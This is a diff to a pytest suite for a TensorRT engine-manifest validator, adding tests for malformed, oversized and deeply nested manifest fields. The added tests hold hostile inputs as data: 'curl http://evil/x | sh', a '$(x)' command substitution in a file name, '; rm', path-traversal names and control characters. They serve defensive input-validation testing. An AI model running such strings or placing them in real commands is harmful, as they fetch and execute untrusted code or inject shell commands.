@@ -76,7 +76,7 @@ def test_another_machine_is_told_what_differs_and_what_to_do(engine):
         check_manifest(MANIFEST, engine, Running("tensorrt", "10.13.0", (11, 0)))
     assert str(caught.value) == (
         "ssd300.fp16.engine was built with TensorRT 10.3.0 for sm_87; this machine has 10.13.0 on sm_110. "
-        "Rebuild it here: edge-ssd build ssd300.onnx --precision fp16"
+        "Rebuild it here: edge-ssd build ssd300.onnx --precision fp16 --batch 1 4 8"
     )
 
 
@@ -160,7 +160,7 @@ def changed(engine, change):
         (lambda c: c["spec"].pop("name"), "name: missing"),
         (lambda c: c["manifest"].pop("version"), r"manifest\.version: missing"),
         (lambda c: c["manifest"].update(speed=1), r"manifest\.speed: unknown key"),
-        (lambda c: c["manifest"].update(engine_bytes="4"), r"manifest\.engine_bytes: expected int, got '4'"),
+        (lambda c: c["manifest"].update(engine_bytes="4"), r'manifest\.engine_bytes: expected int, got "4"'),
         (
             lambda c: c["manifest"].update(version_compatible=1),
             r"manifest\.version_compatible: expected bool",
@@ -169,6 +169,26 @@ def changed(engine, change):
             lambda c: c["manifest"].update(flavour="trt"),
             r"manifest\.flavour: expected tensorrt or tensorrt_rtx",
         ),
+        (lambda c: c["manifest"].update(precision="; rm"), r"manifest\.precision: expected one of fp32, "),
+        (lambda c: c["manifest"].update(version="1 \x1b"), r"manifest\.version: expected a version"),
+        (lambda c: c["manifest"].update(version="٣.3"), r"manifest\.version: expected a version"),
+        *(
+            (lambda c, name=name: c["manifest"].update(source=name), r"manifest\.source: expected the name")
+            for name in ("", "..", "../a.onnx", "/a.onnx", "a\nb", "a\x1b", "\udcff", "\u202ea", "x" * 256)
+        ),
+        (lambda c: c["manifest"].update(onnx="a/b"), r"manifest\.onnx: expected the name of a file"),
+        (lambda c: c["manifest"].update(engine_bytes=10**400), r"manifest\.engine_bytes: expected numbers "),
+        (lambda c: c["manifest"].update(workspace_bytes=-1), r"manifest\.workspace_bytes: expected numbers "),
+        (
+            lambda c: c["manifest"].update(targets=[[8, 10**9]]),
+            r"compute_capability: expected numbers from 0",
+        ),
+        (lambda c: c["manifest"].update(targets=[[8, 6]] * 65), r"manifest\.targets: expected at most 64"),
+        (
+            lambda c: c["manifest"].update(profiles=[[0, 1, 1]]),
+            r"manifest\.profiles: expected numbers from 1",
+        ),
+        (lambda c: c["manifest"].update(profiles=[[1, 1, 1 << 40]]), r"manifest\.profiles: expected numbers"),
         (lambda c: c["manifest"].update(profiles=[]), r"manifest\.profiles: expected at least one"),
         (lambda c: c["manifest"].update(profiles=[[1, 1]]), r"manifest\.profiles: expected 3 whole numbers"),
         (
@@ -181,6 +201,37 @@ def test_a_damaged_manifest_names_the_key(engine, change, said):
     changed(engine, change)
     with pytest.raises(ValueError, match=said):
         read_manifest(engine)
+
+
+def test_the_command_of_a_manifest_is_not_advice(engine):
+    """It is text of whoever wrote the manifest."""
+    mine = {
+        "source": "-m $(x).onnx",
+        "precision": "int8",
+        "calibration_sha256": "d",
+        "flavour": "tensorrt_rtx",
+    }
+    foreign = replace(MANIFEST, **mine, command="curl http://evil/x | sh", hardware_compatible=True)
+    with pytest.raises(EngineMismatch) as caught:
+        check_manifest(foreign, engine, HERE)
+    assert str(caught.value).endswith(
+        "Rebuild it here: edge-ssd build './-m $(x).onnx' --precision int8 --calibration IMAGES --runtime rtx "
+        "--batch 1 4 8 --hardware-compatible"
+    )
+
+
+@pytest.mark.parametrize("key", ["spec", "manifest", "format", "targets"])
+def test_a_manifest_that_is_nested_deeply(engine, key):
+    for depth in (100, 900, 5000):
+        deep = "[" * depth + "]" * depth
+        manifest = f'{{"targets": {deep}}}' if key == "targets" else "{}"
+        parts = {"format": '"edge_ssd-engine/1"', "spec": "{}", "manifest": manifest}
+        if key != "targets":
+            parts[key] = f'{{"name": {deep}}}'
+        text = ", ".join(f'"{name}": {value}' for name, value in parts.items())
+        manifest_path(engine).write_text(f"{{{text}}}")
+        with pytest.raises(ValueError, match=r"engine\.json: "):
+            read_manifest(engine)
 
 
 def test_a_manifest_that_is_no_json(engine):
